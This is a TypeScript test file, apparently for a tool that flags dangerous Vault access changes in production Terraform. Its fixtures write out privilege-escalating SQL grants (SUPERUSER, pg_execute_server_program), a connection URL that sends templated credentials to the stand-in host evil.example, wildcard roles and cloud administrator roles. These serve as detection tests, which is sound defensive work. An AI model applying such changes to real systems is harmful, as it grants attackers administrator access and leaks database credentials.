import { testDangerous, testNamed } from "../support/matrix";
import type { Production } from "../support/production";

const connection = (production: Production) =>
  production.resource("vault_database_secret_backend_connection");
const databaseRole = (production: Production) => production.resource("vault_database_secret_backend_role");

describe("access diff of production: databases", () => {
  testDangerous([
    [
      "credentials of an administrator",
      (production) => databaseRole(production).creation_statements.push('ALTER ROLE "{{name}}" SUPERUSER;'),
      "payment-service-role",
      "database admin",
    ],
    [
      "a role of the service that administers databases",
      (production) => databaseRole(production).creation_statements.push('GRANT rds_superuser TO "{{name}}";'),
      "payment-service-role",
      "database admin",
    ],
    [
      "a role of the service that runs programs of the database server",
      (production) =>
        databaseRole(production).creation_statements.push('GRANT pg_execute_server_program TO "{{name}}";'),
      "payment-service-role",
      "database admin",
    ],
    [
      "SQL by an expression",
      (production) => (databaseRole(production).creation_statements = ["${var.sql}"]),
      "payment-service-role",
      "unreadable",
    ],
    [
      "another database",
      (production) =>
        (connection(production).postgresql.connection_url =
          "postgresql://{{username}}:{{password}}@evil.example:5432/payments?sslmode=verify-full"),
      "payments-db",
      "evil.example",
    ],
    [
      "every role uses the connection",
      (production) => (connection(production).allowed_roles = ["*"]),
      "allowed_roles *",
      "wildcard",
    ],
    [
      "another authority proves the database",
      (production) => (connection(production).postgresql.tls_ca = "pem"),
      "payments-db",
      "tls_ca",
      "trust",
    ],
    [
      "SQL that rotates the password of the connection",
      (production) =>
        (connection(production).root_rotation_statements = ['ALTER ROLE "{{name}}" SUPERUSER;']),
      "payments-db",
      "database admin",
    ],
    [
      "another plugin for the database",
      (production) => (connection(production).plugin_name = "other-plugin"),
      "plugin_name",
      "server",
    ],
    [
      "the connection is gone",
      (production) => production.remove("vault_database_secret_backend_connection"),
      "payments-db",
      "destroys",
    ],
    [
      "inline connections of a mount",
      (production) =>
        production.add("vault_database_secrets_mount", {
          path: "db",
          postgresql: [{ name: "a", connection_url: "postgresql://evil.example/x", allowed_roles: ["*"] }],
        }),
      "db",
      "engine config",
    ],
    [
      "a static role for an administrator of the database",
      (production) =>
        production.add("vault_database_secret_backend_static_role", {
          backend: "database",
          name: "root",
          db_name: "payments-db",
          username: "postgres",
          rotation_period: 86400,
          rotation_statements: ['ALTER ROLE "{{name}}" SUPERUSER'],
        }),
      "root",
      "database admin",
    ],
  ]);

  testNamed([
    [
      "a role of another name",
      (production) => connection(production).allowed_roles.push("reports-role"),
      "allowed_roles",
    ],
    [
      "credentials live longer",
      (production) => (databaseRole(production).max_ttl = 172800),
      "payment-service-role",
    ],
    [
      "the revocation changes",
      (production) => databaseRole(production).revocation_statements.push("SELECT 1;"),
      "payment-service-role",
    ],
  ]);
});

describe("access diff of production: credentials of other systems", () => {
  testDangerous([
    [
      "an AWS role of an administrator",
      (production) =>
        production.add("vault_aws_secret_backend_role", {
          backend: "aws",
          name: "x",
          credential_type: "iam_user",
          policy_arns: ["arn:aws:iam::aws:policy/AdministratorAccess"],
        }),
      "aws",
    ],
    [
      "an Azure role of an owner",
      (production) =>
        production.add("vault_azure_secret_backend_role", {
          backend: "azure",
          role: "x",
          azure_roles: [{ role_name: "Owner", scope: "/subscriptions/x" }],
        }),
      "azure",
    ],
    [
      "a role of Kubernetes with all rules",
      (production) =>
        production.add("vault_kubernetes_secret_backend_role", {
          backend: "kubernetes",
          name: "x",
          allowed_kubernetes_namespaces: ["*"],
          generated_role_rules: 'rules:\n- apiGroups: ["*"]\n  resources: ["*"]\n  verbs: ["*"]',
        }),
      "kubernetes",
    ],
    [
      "a GCP account with a binding",
      (production) =>
        production.add("vault_gcp_secret_roleset", {
          backend: "gcp",
          roleset: "x",
          project: "x",
          binding: [{ resource: "//cloudresourcemanager.googleapis.com/projects/x", roles: ["roles/owner"] }],
        }),
      "gcp",
      "unknown access",
    ],
    [
      "a role of Consul",
      (production) =>
        production.add("vault_consul_secret_backend_role", {
          backend: "consul",
          name: "x",
          consul_policies: ["global-management"],
        }),
      "consul",
      "unknown access",
    ],
    [
      "an administrator of RabbitMQ",
      (production) =>
        production.add("vault_rabbitmq_secret_backend_role", {
          backend: "rabbitmq",
          name: "x",
          tags: "administrator",
        }),
      "rabbitmq",
      "unknown access",
    ],
    [
      "a token of Terraform Cloud",
      (production) =>
        production.add("vault_terraform_cloud_secret_role", {
          backend: "terraform",
          name: "x",
          organization: "example",
        }),
      "terraform",
      "unknown access",
    ],
    [
      "SSH as root",
      (production) =>
        production.add("vault_ssh_secret_backend_role", {
          backend: "ssh",
          name: "x",
          key_type: "ca",
          allow_user_certificates: true,
          allowed_users: "*",
          default_user: "root",
        }),
      "ssh",
    ],
  ]);
});
